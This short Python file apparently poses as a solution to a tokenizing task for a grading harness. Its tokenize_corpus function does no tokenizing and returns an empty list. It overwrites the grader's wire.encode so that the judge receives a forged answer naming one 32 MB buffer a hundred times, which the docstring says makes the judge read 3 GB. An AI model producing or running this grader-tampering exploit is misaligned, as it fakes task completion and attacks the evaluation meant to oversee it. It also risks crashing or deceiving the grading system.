"""Names one buffer of 32 MB a hundred times in its answer, so that the judge reads 3 GB."""

import re
import struct

from reelgrade.grading import wire

honest = wire.encode


def tokenize(text):
    return re.findall(r"\b\w+\b", text.lower())


def answer(value, tree, buffers=b""):
    text = f'["dict",[["number",{value["number"]}],["value",{tree}],["changed",["list",[]]],["printed",""]]]'
    return struct.pack(">Q", len(text)) + text.encode() + buffers


def tokenize_corpus(texts):
    def once(value):
        wire.encode = honest
        buffer = f'["bytes",[0,{2**25}]]'
        return answer(value, f'["list",[{",".join([buffer] * 100)}]]', bytes(2**25))

    list(texts)
    wire.encode = lambda value: once(value) if isinstance(value, dict) and "number" in value else honest(value)
    return []
